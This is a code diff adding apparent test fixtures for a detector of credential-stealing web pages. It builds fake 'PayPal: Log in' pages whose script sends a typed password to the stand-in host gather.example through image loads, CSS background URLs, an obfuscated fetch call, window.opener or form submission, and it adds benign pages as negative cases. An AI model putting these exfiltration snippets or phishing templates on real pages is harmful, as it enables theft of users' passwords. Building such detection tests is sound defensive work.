@@ -50,6 +50,27 @@ const unwraps = site(
   ours,
   `${heading}${sentByScript(elsewhere, password)}${script(`document.body.innerHTML+=atob("${btoa("<p>Ferns grow on the pier, and moss.</p>".repeat(8))}")`)}`,
 )
+/** Under a known name, and with nothing but one of these to carry away what is typed. */
+const ways = [
+  `p.style.background="url(//gather.example/"+p.value+")"`,
+  `new Image()["src"]="//gather.example/"+p.value`,
+  `window["fet"+"ch"]("//gather.example/"+p.value)`,
+  `opener.typed=p.value`,
+  `p.form.submit()`,
+]
+/** Flagged, though no address is read in some of them: a page is still only where none of these stands. */
+export const notStill: ReadonlyArray<GivenDraft> = ways.map((way) =>
+  site(way, "PayPal: Log in", `<input type="password" id="p">${script(`p.onchange=()=>{${way}}`)}`),
+)
+/** Nothing can leave it: a training page that shows such a page, and a tool that works with what is typed. */
+export const stillPages: ReadonlyArray<GivenDraft> = [
+  site("a training page", "PayPal: Log in", `<input type="password"><button onclick="alert('no')">Log in</button>`),
+  site(
+    "a tool for phrases",
+    ours,
+    `${heading}<textarea id="p" placeholder="Your seed phrase"></textarea><p id="n"></p>${script(`p.oninput=()=>{n.textContent=p.value.split(" ").length}`)}`,
+  ),
+]
 const given = site(
   "gives beside its form",
   ours,
